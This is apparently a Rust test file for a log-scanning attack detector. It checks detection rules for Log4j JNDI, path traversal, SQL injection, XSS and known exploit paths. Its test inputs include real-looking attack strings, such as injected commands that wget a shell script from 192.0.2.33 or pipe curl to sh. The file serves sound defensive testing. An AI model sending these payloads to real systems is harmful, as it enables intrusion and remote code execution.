//! The default rules against real-looking attack strings and benign ones, the decoder,
//! the rule settings, and hostile inputs.

use proptest::prelude::*;

use super::*;
use crate::attacks_rules::DEFAULT_RULES;

fn defaults() -> Attacks {
    AttackSettings::default().compile().unwrap().unwrap()
}

/// The `(rule, evidence)` pairs of `text` as `field`.
fn hits(a: &Attacks, field: Field, text: &str) -> Vec<(String, String)> {
    let mut out = Hits::default();
    a.scan(field, text, &mut Scratch::default(), &mut out);
    out.iter()
        .map(|(h, evidence)| (a.rule_id(h.rule).to_string(), evidence.to_string()))
        .collect()
}

fn rules(a: &Attacks, field: Field, text: &str) -> Vec<String> {
    hits(a, field, text).into_iter().map(|(r, _)| r).collect()
}

#[test]
fn every_builtin_rule_has_prefix_literals() {
    let a = defaults();
    assert_eq!(a.len(), DEFAULT_RULES.len());
    assert_eq!(a.unanchored().collect::<Vec<_>>(), Vec::<&str>::new());
}

#[test]
fn log4j_plain_nested_and_encoded() {
    let a = defaults();
    for ua in [
        "${jndi:ldap://192.0.2.1:1389/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}di:rmi://x/a}",
        "${j${::-n}di:dns://x}",
        "${ ${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
        "%24%7Bjndi:ldap://x/a%7D",
        "%2524%257Bjndi:ldap://x%257D",
        "$\\x7Bjndi:ldap://x}",
        "${JNDI:LDAP://x}",
    ] {
        assert_eq!(rules(&a, Field::UserAgent, ua), ["log4j-jndi"], "{ua}");
    }
    let got = hits(
        &a,
        Field::UserAgent,
        "Mozilla ${jndi:ldap://192.0.2.1/x} end",
    );
    assert_eq!(got[0].1, "${jndi:ldap://192.0.2.1/x}");
    for benign in [
        "${HOME}",
        "price: $5 {x}",
        "Mozilla/5.0 (X11; Linux x86_64)",
    ] {
        assert!(rules(&a, Field::UserAgent, benign).is_empty(), "{benign}");
    }
}

#[test]
fn traversal_plain_encoded_double_encoded_overlong() {
    let a = defaults();
    for req in [
        "GET /../../etc/hosts HTTP/1.1",
        "GET /%2e%2e/%2e%2e/x HTTP/1.1",
        "GET /%252e%252e%252fx HTTP/1.1",
        "GET /..%c0%af..%c0%afwinnt HTTP/1.0",
        "GET /remote/x?a=..\\..\\boot HTTP/1.1",
    ] {
        assert!(
            rules(&a, Field::Request, req).contains(&"path-traversal".to_string()),
            "{req}"
        );
    }
    let r = rules(
        &a,
        Field::Request,
        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
    );
    assert_eq!(r, ["path-traversal", "fortios-traversal"]);
    assert!(rules(&a, Field::Request, "GET /a/b.c/..d HTTP/1.1").is_empty());
}

#[test]
fn shell_download_and_exec() {
    let a = defaults();
    let got = hits(
        &a,
        Field::Request,
        "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh%20-O%20-;chmod%20+x%20x.sh HTTP/1.1",
    );
    let ids: Vec<&str> = got.iter().map(|(r, _)| r.as_str()).collect();
    assert_eq!(ids, ["shell-download", "shell-exec"]);
    assert_eq!(got[0].1, "wget http://192.0.2.33/x.sh");
    assert_eq!(got[1].1, "chmod +x");
    for req in [
        "GET /x?c=curl${IFS}-s${IFS}http://192.0.2.1/a|sh HTTP/1.1",
        "POST /cgi-bin/x?cmd=cd+/tmp;wget+192.0.2.1/bins.sh HTTP/1.1",
    ] {
        assert!(
            rules(&a, Field::Request, req).contains(&"shell-download".to_string()),
            "{req}"
        );
    }
    assert!(rules(&a, Field::UserAgent, "curl/7.88.1").is_empty());
    assert!(rules(&a, Field::UserAgent, "Wget/1.21.3").is_empty());
}

#[test]
fn known_exploit_paths() {
    let a = defaults();
    for (req, rule) in [
        (
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
            "phpunit-eval-stdin",
        ),
        (
            "POST /GponForm/diag_Form?images/ HTTP/1.1",
            "gpon-diag-form",
        ),
        ("POST /boaform/admin/formLogin HTTP/1.1", "boaform"),
        ("GET /.env HTTP/1.1", "dotenv"),
        ("GET /api/.env.bak HTTP/1.1", "dotenv"),
        ("GET /.git/config HTTP/1.1", "git-config"),
        ("POST /HNAP1/ HTTP/1.1", "hnap"),
        (
            "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1",
            "thinkphp-rce",
        ),
        (
            "GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List HTTP/1.1",
            "cgi-bin-shell",
        ),
    ] {
        assert!(
            rules(&a, Field::Request, req).contains(&rule.to_string()),
            "{req}: {:?}",
            rules(&a, Field::Request, req)
        );
    }
    let r = rules(
        &a,
        Field::Request,
        "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
    );
    assert!(r.contains(&"cgi-bin-shell".to_string()), "{r:?}");
    for benign in [
        "GET /environment.html HTTP/1.1",
        "GET /.envoy HTTP/1.1",
        "GET /docs/git/config.html HTTP/1.1",
        "GET /index.html HTTP/1.1",
    ] {
        assert!(rules(&a, Field::Request, benign).is_empty(), "{benign}");
    }
}

#[test]
fn sql_injection_and_xss() {
    let a = defaults();
    for req in [
        "GET /item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL-- HTTP/1.1",
        "GET /login?u=admin'%20or%20'1'='1 HTTP/1.1",
        "GET /item?id=1 or 1=1 HTTP/1.1",
        "GET /x?q=1;waitfor delay '0:0:5' HTTP/1.1",
        "GET /x?q=(select+table_name+from+information_schema.tables) HTTP/1.1",
        "GET /x?id=1+and+sleep(5) HTTP/1.1",
    ] {
        assert!(
            rules(&a, Field::Request, req).contains(&"sql-injection".to_string()),
            "{req}"
        );
    }
    for req in [
        "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
        "GET /?q=<img src=x onerror=alert(1)> HTTP/1.1",
        "GET /?u=javascript:alert(document.cookie) HTTP/1.1",
    ] {
        assert!(
            rules(&a, Field::Request, req).contains(&"xss".to_string()),
            "{req}"
        );
    }
    for benign in [
        "Mozilla/5.0 (Linux; Android 13; SM-S901B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    ] {
        assert!(rules(&a, Field::UserAgent, benign).is_empty(), "{benign}");
    }
}

#[test]
fn non_http_garbage() {
    let a = defaults();
    let tls = r"\x16\x03\x01\x00\xF1\x01\x00\x00\xED\x03\x03";
    let got = hits(&a, Field::Request, tls);
    assert_eq!(got, [("tls-handshake".into(), "\u{16}\u{3}\u{1}".into())]);
    assert_eq!(rules(&a, Field::Raw, tls), ["tls-handshake"]);
    assert!(
        rules(&a, Field::UserAgent, tls).is_empty(),
        "not a field of the rule"
    );
    assert_eq!(
        rules(
            &a,
            Field::Request,
            r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"
        ),
        ["rdp-probe"]
    );
    assert_eq!(rules(&a, Field::Request, "SSH-2.0-Go"), ["ssh-banner"]);
    assert!(rules(&a, Field::Request, "GET /\\x16\\x03 HTTP/1.1").is_empty());
}

#[test]
fn decoding_is_bounded_and_keeps_invalid_escapes() {
    let (mut d, mut t) = (Vec::new(), Vec::new());
    assert_eq!(normalize(b"plain", &mut d, &mut t), b"plain");
    assert_eq!(normalize(b"%zz%4\\xq\\", &mut d, &mut t), b"%zz%4\\xq\\");
    assert_eq!(normalize(b"%25252e", &mut d, &mut t), b".");
    assert_eq!(normalize(b"\\x22a\\\\b\\\"", &mut d, &mut t), b"\"a\\b\"");
    // Five layers of encoding: only MAX_DECODE_ROUNDS are undone.
    assert_eq!(normalize(b"%2525252541", &mut d, &mut t), b"%41");
    assert_eq!(normalize(b"%ff%00", &mut d, &mut t), b"\xff\x00");
}

#[test]
fn settings_add_replace_disable_and_name_bad_rules() {
    let table = |p: &str, f: &str| {
        vec![
            ("pattern".to_string(), p.to_string()),
            ("fields".to_string(), f.to_string()),
        ]
    };
    let s = AttackSettings {
        defaults: true,
        disable: vec!["xss".into()],
        rules: vec![
            ("dotenv".into(), table(r"/\.envrc", "target")),
            ("wp-login".into(), table(r"/wp-login\.php", "request")),
        ],
        ..Default::default()
    };
    let specs = s.specs().unwrap();
    assert_eq!(specs.len(), DEFAULT_RULES.len());
    assert!(specs.iter().all(|r| r.id != "xss"));
    assert_eq!(specs.last().unwrap().id, "wp-login");
    let a = s.compile().unwrap().unwrap();
    assert!(rules(&a, Field::Request, "GET /.env HTTP/1.1").is_empty());
    assert_eq!(rules(&a, Field::Target, "/.envrc"), ["dotenv"]);
    assert_eq!(
        rules(&a, Field::Request, "GET /wp-login.php HTTP/1.1"),
        ["wp-login"]
    );

    let only = AttackSettings {
        defaults: false,
        rules: vec![("mine".into(), table("x+y", "user_agent"))],
        ..Default::default()
    };
    assert_eq!(only.compile().unwrap().unwrap().len(), 1);

    let bad = AttackSettings {
        rules: vec![("broken".into(), table("(unclosed", "request"))],
        ..Default::default()
    };
    let (field, reason) = bad.compile().unwrap_err();
    assert_eq!(field, "attack-rule.broken");
    assert!(reason.starts_with("pattern:"), "{reason}");
    let unicode = AttackSettings {
        rules: vec![("letters".into(), table(r"\p{L}+", "request"))],
        ..Default::default()
    };
    assert_eq!(unicode.compile().unwrap_err().0, "attack-rule.letters");
    let bad_field = AttackSettings {
        rules: vec![("r".into(), table("x", "request,cookies"))],
        ..Default::default()
    };
    assert!(bad_field.specs().unwrap_err().1.contains("cookies"));
    let bad_id = AttackSettings {
        rules: vec![("a b".into(), table("x", "request"))],
        ..Default::default()
    };
    assert_eq!(bad_id.specs().unwrap_err().0, "attack-rule.a b");
    let unknown = AttackSettings {
        disable: vec!["nope".into()],
        ..Default::default()
    };
    assert_eq!(unknown.specs().unwrap_err().0, "attack-disable[0]");
    let off = AttackSettings {
        enabled: false,
        ..Default::default()
    };
    assert!(off.compile().unwrap().is_none());
}

#[test]
fn an_unanchored_rule_still_runs() {
    let a = Attacks::new(&[RuleSpec {
        id: "any".into(),
        fields: vec![Field::Referer],
        pattern: ".*evil".into(),
        description: String::new(),
        reference: String::new(),
    }])
    .unwrap();
    assert_eq!(a.unanchored().collect::<Vec<_>>(), ["any"]);
    assert_eq!(rules(&a, Field::Referer, "http://EVIL.example"), ["any"]);
}

#[test]
fn hostile_inputs() {
    let a = defaults();
    let nested = "${".repeat(50_000) + "jndi:x" + &"}".repeat(50_000);
    let got = hits(&a, Field::UserAgent, &nested);
    assert_eq!(got[0].0, "log4j-jndi");
    assert!(got[0].1.len() <= MAX_EVIDENCE);
    let huge = "%".repeat(1 << 20) + &"%2".repeat(1 << 18);
    assert!(rules(&a, Field::Request, &huge).is_empty());
    let long = format!("GET /{} HTTP/1.1", "a/".repeat(500_000));
    assert!(rules(&a, Field::Request, &long).is_empty());
    assert!(evidence("é".repeat(100).as_bytes()).len() <= MAX_EVIDENCE);
}

#[test]
fn round_trip_of_the_table_form() {
    for r in DEFAULT_RULES {
        let spec = RuleSpec::builtin(r);
        assert_eq!(RuleSpec::from_table(r.id, &spec.to_table()).unwrap(), spec);
    }
}

proptest! {
    #[test]
    fn scanning_never_panics(text in proptest::collection::vec(any::<u8>(), 0..400)) {
        let text = String::from_utf8_lossy(&text);
        let a = defaults();
        for f in Field::ALL {
            let _ = hits(&a, f, &text);
        }
    }

    #[test]
    fn percent_encoding_is_seen_through(pre in "[a-z/]{0,12}") {
        let a = defaults();
        let plain = format!("{pre}${{jndi:ldap://x}}");
        let encoded: String = plain.bytes().map(|b| format!("%{b:02X}")).collect();
        prop_assert_eq!(rules(&a, Field::UserAgent, &plain), ["log4j-jndi"]);
        prop_assert_eq!(rules(&a, Field::UserAgent, &encoded), ["log4j-jndi"]);
    }
}
#[test]
fn the_default_gates_are_compact_and_reach_every_rule_of_their_fields() {
    let a = defaults();
    let gate = |f: Field| a.gate_of[f as usize].map(|g| &a.gates[usize::from(g)]);
    // The request's gate has every rule: about three literals per rule.
    let request = gate(Field::Request).unwrap();
    assert!(request.len() <= 96, "{} literals", request.len());
    // User-Agent, Referer and extra share one; X-Forwarded-For has its own small one;
    // no built-in rule looks at the target.
    assert_eq!(
        a.gate_of[Field::UserAgent as usize],
        a.gate_of[Field::Referer as usize]
    );
    assert!(gate(Field::Forwarded).unwrap().len() <= 4);
    // The request's and the User-Agent's gates search with vectors in the component.
    assert!(request.has_teddy() && gate(Field::UserAgent).unwrap().has_teddy());
    assert!(gate(Field::Target).is_none());
    // Every rule is reachable from the gate of every field it looks at.
    for (r, rule) in a.rules.iter().enumerate() {
        for f in Field::ALL
            .into_iter()
            .filter(|f| rule.fields & f.bit() != 0)
        {
            assert!(gate(f).unwrap().reaches(r as u16), "{} in {f:?}", rule.id);
        }
    }
}

/// The same hits as an unanchored search of every applicable rule: the literal gate and
/// the anchored searches at literal positions lose nothing.
fn naive(a: &Attacks, field: Field, text: &str) -> Vec<(String, String)> {
    let (mut d, mut t) = (Vec::new(), Vec::new());
    let text = normalize(text.as_bytes(), &mut d, &mut t);
    a.rules
        .iter()
        .filter(|r| r.fields & field.bit() != 0)
        .filter_map(|r| {
            r.regex
                .find(text)
                .map(|m| (r.id.clone(), evidence(&text[m.range()]).into_owned()))
        })
        .collect()
}

proptest! {
    #[test]
    fn the_gate_and_anchored_search_agree_with_a_plain_search(
        parts in proptest::collection::vec(prop_oneof![
            Just("${"), Just("jndi:"), Just("${lower:j}"), Just("../"), Just("%2e%2e%2f"),
            Just("wget "), Just("http://192.0.2.1/x.sh"), Just(";"), Just("|"), Just(" sh"),
            Just("chmod +x "), Just("'"), Just(" or "), Just("1=1"), Just("union select"),
            Just("<script>"), Just("onerror="), Just("/.env"), Just("/.git/config"),
            Just("\\x16\\x03\\x01"), Just("/cgi-bin/"), Just("/bin/sh"), Just("() { :; };"),
            Just("SSH-2.0-x"), Just("eval-stdin.php"), Just("/etc/passwd"), Just("GET /"),
            Just(" "), Just("a"), Just("%"), Just("\\"), Just("%25"), Just("$(id)"),
            Just("/.ENV"), Just("${JNDI:"), Just("/Bin/Sh"), Just("UNION SELECT"), Just("/."),
            Just("/b"), Just("INFO"), Just("information_schema"),
        ], 0..12)
    ) {
        let text: String = parts.concat();
        let a = defaults();
        for f in [Field::Request, Field::UserAgent, Field::Forwarded, Field::Raw] {
            prop_assert_eq!(hits(&a, f, &text), naive(&a, f, &text), "{}", text);
        }
        // The component's vector filter (here on portable lanes) finds what the DFA finds.
        for gate in &a.gates {
            prop_assert_eq!(gate.portable_candidates(text.as_bytes()), gate.dfa_only(text.as_bytes()));
        }
    }
}

#[test]
fn a_literal_that_starts_before_the_first_one_to_end_is_found() {
    // "bc" ends first (at 3), "abcd" starts before it (at 0): the overlapping pass must
    // still see "abcd", and "x..abcd" after a long prefix too.
    let spec = |id: &str, pattern: &str| {
        RuleSpec::from_table(id, &[("pattern".into(), pattern.into())]).unwrap()
    };
    let a = Attacks::new(&[spec("long", "abcdef"), spec("short", "bc")]).unwrap();
    assert_eq!(rules(&a, Field::UserAgent, "abcdef"), ["long", "short"]);
    let text = format!("{}ABCDEF", "x".repeat(40));
    assert_eq!(rules(&a, Field::UserAgent, &text), ["long", "short"]);
}
